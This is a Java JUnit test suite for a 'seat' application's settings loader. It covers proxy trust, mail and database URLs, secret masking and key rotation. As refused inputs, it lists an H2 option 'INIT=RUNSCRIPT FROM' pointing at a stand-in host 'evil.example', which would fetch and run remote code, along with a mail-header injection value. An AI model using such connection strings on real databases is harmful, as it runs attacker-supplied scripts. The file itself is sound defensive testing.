package seat.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.io.IOException;
import java.net.InetAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SettingsTest {
    private static final String KEY = "MDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWY=";

    @TempDir
    Path folder;

    private Path dataFolder;

    @BeforeEach
    void createDataFolder() throws IOException {
        dataFolder = Files.createDirectory(folder.resolve("data"));
    }

    @Test
    void aByteOrderMarkIsNoPartOfAName() throws IOException {
        write(folder, "\uFEFFSEAT_HTTP_PORT=2");
        assertThat(load(Map.of()).http().port()).isEqualTo(2);
    }

    @Test
    void aSettingGivenTwiceInOneFileIsAnError() throws IOException {
        write(folder, "SEAT_HTTP_PORT=1\nSEAT_CONTACT=a\nSEAT_HTTP_PORT=2");
        assertThat(problems(Map.of()))
                .containsExactly(
                        "SEAT_HTTP_PORT is given twice in " + folder.resolve("seat.properties") + "; allowed: once");
    }

    @Test
    void aFileInAnotherEncodingIsNamed() throws IOException {
        Files.write(folder.resolve("seat.properties"), "SEAT_CONTACT=J\u00f6rg".getBytes(StandardCharsets.ISO_8859_1));
        assertThat(problems(Map.of()))
                .containsExactly(folder.resolve("seat.properties") + " is no UTF-8 text; save it as UTF-8");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "0.0.0.0/0",
                "::/0",
                "10.0.0.0/8, 0.0.0.0/1",
                "0.0.0.0/2,64.0.0.0/2",
                "0.0.0.0/1, 128.0.0.0/1",
                "::/1",
                "8000::/2, c000::/2",
                "0.0.0.0/3, 32.0.0.0/3, 96.0.0.0/3, 224.0.0.0/3, 127.0.0.1"
            })
    void proxiesThatAreEverybodyAreRefused(String proxies) {
        assertThat(problems(Map.of("SEAT_TRUSTED_PROXIES", proxies)))
                .singleElement()
                .asString()
                .contains("SEAT_TRUSTED_PROXIES")
                .contains("anybody could claim to be anybody: " + proxies);
    }

    @Test
    void theFileOfReleasesIsAPathOrAnAddressAndNoneByDefault() {
        assertThat(load(Map.of()).releaseFile()).isNull();
        assertThat(load(Map.of("SEAT_RELEASE_FILE", "/srv/seat/../newest release"))
                        .releaseFile())
                .isEqualTo(Path.of("/srv/newest release").toUri());
        assertThat(load(Map.of("SEAT_RELEASE_FILE", "https://seat.example.com/newest"))
                        .releaseFile())
                .isEqualTo(URI.create("https://seat.example.com/newest"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "newest",
                "./newest",
                "ftp://seat.example.com/newest",
                "file:///srv/newest",
                "https://user:quiet@seat.example.com/newest",
                "https://seat.example.com/newest?key=quiet",
                "https://"
            })
    void whatIsNeitherAPathNorAnAddressOfReleasesIsRefused(String file) {
        assertThat(problems(Map.of("SEAT_RELEASE_FILE", file)))
                .singleElement()
                .asString()
                .contains("SEAT_RELEASE_FILE", "allowed: a file's absolute path, or an http:// or https:// URL")
                .doesNotContain("user:quiet");
    }

    @Test
    void aMailServerIsReadFromItsUrl() {
        MailSettings mail = load(Map.of(
                        "SEAT_SMTP_URL", "smtp://mail.example.com",
                        "SEAT_SMTP_USER", "seat",
                        "SEAT_SMTP_PASSWORD", "quiet",
                        "SEAT_MAIL_FROM", "seat@example.com"))
                .mail();
        assertThat(mail)
                .isEqualTo(new MailSettings(
                        new MailSettings.Server(MailSettings.Encryption.STARTTLS, "mail.example.com", 587),
                        "seat",
                        new Secret("quiet"),
                        "seat@example.com"));
        assertThat(mail).asString().doesNotContain("quiet");
        assertThat(load(Map.of("SEAT_SMTP_URL", "smtps://[::1]:4650/", "SEAT_MAIL_FROM", "a@b.example"))
                        .mail())
                .extracting(MailSettings::server)
                .isEqualTo(new MailSettings.Server(MailSettings.Encryption.TLS, "[::1]", 4650));
        assertThat(load(Map.of()).mail()).isNull();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "mail.example.com",
                "http://mail.example.com",
                "smtp://",
                "smtp://user:quiet@mail.example.com",
                "smtp://mail.example.com/inbox",
                "smtp://mail.example.com:0",
                "smtp://mail.example.com:65536",
                "smtp://mail example.com"
            })
    void whatIsNoMailServerIsRefused(String url) {
        assertThat(problems(Map.of("SEAT_SMTP_URL", url, "SEAT_MAIL_FROM", "seat@example.com")))
                .singleElement()
                .asString()
                .startsWith("SEAT_SMTP_URL")
                .contains("smtps://host[:port]")
                .doesNotContain("quiet");
    }

    @Test
    void aMailServerNeedsASenderAndHidesItsPassword() {
        assertThat(problems(Map.of("SEAT_SMTP_URL", "smtp-plain://mail.example.com", "SEAT_SMTP_PASSWORD", "quiet")))
                .hasSize(2)
                .anyMatch(problem -> problem.startsWith("SEAT_MAIL_FROM is missing"))
                .anyMatch(problem -> problem.startsWith("SEAT_SMTP_PASSWORD would go over the network"))
                .noneMatch(problem -> problem.contains("quiet"));
        assertThat(problems(
                        Map.of("SEAT_SMTP_URL", "smtp://mail.example.com", "SEAT_MAIL_FROM", "a@b.example\r\nBcc: c")))
                .isNotEmpty();
    }

    @Test
    void hostsThatWebhooksMayGoToAreNamedWithTheirPorts() {
        assertThat(load(Map.of("SEAT_OUTBOUND_ALLOWED", "Hooks.Example.com:8443, 10.0.0.5:80,[fd00::5]:80"))
                        .outboundAllowed())
                .containsExactlyInAnyOrder(
                        new HostAndPort("hooks.example.com", 8443),
                        new HostAndPort("10.0.0.5", 80),
                        new HostAndPort("fd00::5", 80));
        for (String wrong :
                List.of("hooks.example.com", "http://a:1", "a:0", "a:65536", "*:80", "a:1,", "fd00::5:80")) {
            assertThat(problems(Map.of("SEAT_OUTBOUND_ALLOWED", wrong)))
                    .as(wrong)
                    .singleElement()
                    .asString()
                    .contains("hooks.example.com:8443");
        }
    }

    @Test
    void proxiesOfPrivateNetworksAreTrusted() {
        assertThat(load(Map.of("SEAT_TRUSTED_PROXIES", "10.0.0.0/8,172.16.0.0/12,192.168.0.0/16,fc00::/7,10.1.0.0/16"))
                        .http()
                        .trustedProxies())
                .hasSize(5);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "INIT=RUNSCRIPT FROM 'http://evil.example/x'",
                "init=SELECT 1",
                "TRACE_LEVEL_FILE=4",
                "AUTHREALM=x",
                "DATABASE_EVENT_LISTENER='x'",
                "FILE_LOCK=NO",
                "CACHE_SIZE=1;INIT=x",
                "garbage"
            })
    void anOptionOfH2ThatRunsOrOpensSomethingIsRefused(String options) {
        assertThat(problems(Map.of("SEAT_DATABASE_URL", "jdbc:h2:mem:x;" + options)))
                .singleElement()
                .asString()
                .contains("SEAT_DATABASE_URL")
                .contains("of H2's options there may be")
                .contains("CACHE_SIZE");
    }

    @Test
    void aDataFolderThatIsNoneIsSaidToBeNone() throws IOException {
        Path file = Files.createFile(folder.resolve("file"));
        Path dangling = Files.createSymbolicLink(folder.resolve("link"), folder.resolve("nowhere"));
        assertThat(problems(Map.of("SEAT_DATA_DIR", "file")))
                .singleElement()
                .asString()
                .startsWith("SEAT_DATA_DIR names " + file + ", which is a file, not a folder; allowed: ");
        assertThat(problems(Map.of("SEAT_DATA_DIR", "link")))
                .singleElement()
                .asString()
                .startsWith("SEAT_DATA_DIR names " + dangling + ", which is a link to something that does not exist");
    }

    @Test
    void nothingNeedsToBeConfigured() {
        Settings settings = load(Map.of());

        assertThat(settings.dataDir()).isEqualTo(dataFolder);
        assertThat(settings.memoryBytes()).isEqualTo(512L << 20);
        assertThat(settings.http().address()).isEqualTo("127.0.0.1");
        assertThat(settings.http().publicUrl(8080)).isEqualTo(URI.create("http://127.0.0.1:8080"));
        assertThat(settings.database().embedded()).isTrue();
        assertThat(settings.database().url())
                .isEqualTo("jdbc:h2:file:" + dataFolder.resolve("seat")
                        + ";MODE=MySQL;DATABASE_TO_LOWER=TRUE;CASE_INSENSITIVE_IDENTIFIERS=TRUE");
        assertThat(settings.redisUrl()).isNull();
        assertThat(settings.secretKeys()).isEmpty();
    }

    @Test
    void flagsWinOverTheEnvironmentThatOverTheWorkingFolderThatOverTheDataFolder() throws IOException {
        write(dataFolder, "SEAT_HTTP_PORT=1\nSEAT_MEMORY=1g\nSEAT_LOG_LEVEL=warn\nSEAT_CONTACT=data");
        write(folder, "SEAT_HTTP_PORT=2\nSEAT_MEMORY=2g\nSEAT_LOG_LEVEL=debug");
        Settings settings = Settings.load(
                Map.of(Setting.HTTP_PORT, "4"), Map.of("SEAT_HTTP_PORT", "3", "SEAT_MEMORY", "3g"), folder);

        assertThat(settings.http().port()).isEqualTo(4);
        assertThat(settings.memoryBytes()).isEqualTo(3L << 30);
        assertThat(settings.logLevel()).isEqualTo(LogLevel.DEBUG);
        assertThat(settings.eve().contact()).isEqualTo("data");
        assertThat(settings.given().get(Setting.MEMORY).origin()).isEqualTo("environment");
    }

    @Test
    void theDataFolderOfTheStrongestLayerIsTheOneWhoseFileIsRead() throws IOException {
        Path other = Files.createDirectory(folder.resolve("other"));
        write(other, "SEAT_HTTP_PORT=7");
        assertThat(load(Map.of("SEAT_DATA_DIR", "other")).http().port()).isEqualTo(7);
    }

    @Test
    void anUnknownNameIsAnErrorThatNamesTheNearest() throws IOException {
        assertThat(problems(Map.of("SEAT_HTPP_PORT", "80")))
                .singleElement()
                .asString()
                .contains("SEAT_HTPP_PORT (environment)", "did you mean SEAT_HTTP_PORT?");
        write(folder, "http.port=80");
        assertThat(problems(Map.of()))
                .singleElement()
                .asString()
                .contains("http.port", "seat.properties", "valid are", "SEAT_REDIS_URL");
    }

    @Test
    void whatKubernetesPutsIntoEveryPodIsNoSetting() {
        Map<String, String> pod = Map.of(
                "KUBERNETES_SERVICE_HOST", "10.0.0.1",
                "SEAT_SERVICE_HOST", "10.0.0.2",
                "SEAT_WEB_SERVICE_PORT_HTTP", "80",
                "SEAT_WEB_PORT", "tcp://10.0.0.2:80",
                "SEAT_HTTP_PORT", "tcp://10.0.0.2:80",
                "SEAT_PORT_80_TCP_ADDR", "10.0.0.2");
        assertThat(load(pod).http().port()).isEqualTo(8080);
        assertThat(problems(Map.of("KUBERNETES_SERVICE_HOST", "10.0.0.1", "SEAT_HTPP_PORT", "80")))
                .hasSize(1);
    }

    @Test
    void everyProblemIsReportedAtOnceWithNameProblemAndWhatIsAllowed() {
        assertThat(problems(Map.of(
                        "SEAT_HTTP_PORT", "eighty",
                        "SEAT_MEMORY", "12",
                        "SEAT_PUBLIC_URL", "seat.example.com",
                        "SEAT_TRUSTED_PROXIES", "10.0.0.0/33",
                        "SEAT_DATABASE_URL", "jdbc:mysql://db/seat",
                        "SEAT_LOG_LEVEL", "loud",
                        "SEAT_CONTACT", "a (b)")))
                .hasSize(7)
                .contains("SEAT_HTTP_PORT (environment) is no port: eighty; allowed: " + SettingKind.PORT.allowed())
                .allMatch(line -> line.contains("; allowed: "));
    }

    @Test
    void aMalformedSecretIsNeverRepeated() {
        String secret = "hunter2-hunter2";
        assertThat(problems(Map.of(
                        "SEAT_SECRET_KEY", secret,
                        "SEAT_EVE_CLIENT_SECRET", secret + " x",
                        "SEAT_REDIS_URL", "http://:" + secret + "@cache",
                        "SEAT_DATABASE_URL", "jdbc:postgresql://u:" + secret + "@db?password=" + secret)))
                .hasSize(4)
                .noneMatch(line -> line.contains("hunter2"));
    }

    @Test
    void secretsAreNeverPrinted() {
        Settings settings = load(Map.of(
                "SEAT_SECRET_KEY", KEY,
                "SEAT_EVE_CLIENT_SECRET", "hunter2",
                "SEAT_DATABASE_PASSWORD", "hunter2",
                "SEAT_REDIS_URL", "redis://:hunter2@cache:6379",
                "SEAT_DATABASE_URL", "jdbc:mariadb://db/seat?user=x&password=hunter2"));
        assertThat(settings.toString()).doesNotContain("hunter2", KEY).contains("jdbc:mariadb://db/seat");
        assertThat(settings.eve().clientSecret().reveal()).isEqualTo("hunter2");
    }

    @Test
    void keysMayBeBase64OrHexAndSeveralWithTheCurrentOneFirst() {
        List<SecretKey> keys = load(Map.of("SEAT_SECRET_KEY", "new:" + "ab".repeat(32) + ", old:" + KEY))
                .secretKeys();
        assertThat(keys).extracting(SecretKey::id).containsExactly("new", "old");
        assertThat(keys.get(1).bytes()).isEqualTo("0123456789abcdef0123456789abcdef".getBytes());
        assertThat(problems(Map.of("SEAT_SECRET_KEY", "a:" + KEY + ",b:" + KEY)))
                .singleElement()
                .asString()
                .contains("the same key twice");
    }

    @Test
    void aDatabaseMayBeAGaleraClusterOrAMasterWithItsStandBy() {
        for (String url : List.of(
                "jdbc:mariadb://db/seat",
                "jdbc:mariadb://db:3307/seat?sslMode=verify-full&serverSslCert=/etc/ca.pem",
                "jdbc:mariadb://n1:3306,n2:3306,n3/seat",
                "jdbc:mariadb:sequential://a:3306,b:3306/seat",
                "jdbc:mariadb:///seat?localSocket=/run/mysqld/mysqld.sock")) {
            Settings settings = load(Map.of("SEAT_DATABASE_URL", url, "SEAT_SECRET_KEY", KEY));
            assertThat(settings.database().url()).isEqualTo(url);
        }
        for (String url : List.of(
                "jdbc:mariadb:db/seat",
                "jdbc:mariadb://db",
                "jdbc:mariadb://db/",
                "jdbc:mariadb://a,,b/seat",
                "jdbc:mariadb:replication://a,b/seat")) {
            assertThat(problems(Map.of("SEAT_DATABASE_URL", url, "SEAT_SECRET_KEY", KEY)))
                    .as(url)
                    .singleElement()
                    .asString()
                    .startsWith("SEAT_DATABASE_URL (environment)")
                    .contains("jdbc:mariadb:sequential://");
        }
    }

    @Test
    void aSharedDatabaseNeedsAKeyThatEveryProcessKnows() {
        assertThat(problems(Map.of("SEAT_DATABASE_URL", "jdbc:mariadb://db/seat")))
                .singleElement()
                .asString()
                .startsWith("SEAT_SECRET_KEY is missing");
    }

    @Test
    void redisWithTheEmbeddedDatabaseIsRefused() {
        assertThat(problems(Map.of("SEAT_REDIS_URL", "redis://cache")))
                .singleElement()
                .asString()
                .startsWith("SEAT_REDIS_URL needs a database that processes can share");
    }

    @Test
    void whatTalksToEveStopsWithoutClientAndContact() {
        Settings settings = load(Map.of("SEAT_EVE_CLIENT_ID", ""));
        SettingsException missing =
                catchThrowableOfType(SettingsException.class, () -> settings.require(Settings.NEEDED_FOR_EVE));
        assertThat(missing.problems()).hasSize(2).anyMatch(line -> line.startsWith("SEAT_CONTACT is missing"));
    }

    @Test
    void theCallbackFollowsThePublicUrl() {
        Settings settings = load(Map.of("SEAT_PUBLIC_URL", "https://seat.example.com/corp/"));
        assertThat(settings.eve().callbackUrl(settings.http().publicUrl(8080)))
                .isEqualTo(URI.create("https://seat.example.com/corp/auth/eve/callback"));
        assertThat(load(Map.of("SEAT_HTTP_ADDRESS", "::1")).http().publicUrl(81))
                .isEqualTo(URI.create("http://[::1]:81"));
        assertThat(load(Map.of("SEAT_HTTP_ADDRESS", "0.0.0.0")).http().publicUrl(81))
                .isEqualTo(URI.create("http://localhost:81"));
    }

    @Test
    void onlyProxiesOfTheListAreTrusted() {
        HttpSettings http =
                load(Map.of("SEAT_TRUSTED_PROXIES", "10.1.0.0/15, ::1")).http();
        assertThat(http.trusts(InetAddress.ofLiteral("10.0.255.255"))).isTrue();
        assertThat(http.trusts(InetAddress.ofLiteral("10.2.0.0"))).isFalse();
        assertThat(http.trusts(InetAddress.ofLiteral("::1"))).isTrue();
        assertThat(load(Map.of()).http().trusts(InetAddress.ofLiteral("127.0.0.1")))
                .isFalse();
    }

    @Test
    void theDataFolderCannotBeMovedByItsOwnFile() throws IOException {
        write(dataFolder, "SEAT_DATA_DIR=/elsewhere");
        assertThat(problems(Map.of())).singleElement().asString().contains("cannot be set in");
    }

    private Settings load(Map<String, String> environment) {
        return Settings.load(Map.of(), environment, folder);
    }

    private List<String> problems(Map<String, String> environment) {
        return catchThrowableOfType(SettingsException.class, () -> load(environment))
                .problems();
    }

    private static void write(Path folder, String text) throws IOException {
        Files.writeString(folder.resolve("seat.properties"), text);
    }
}
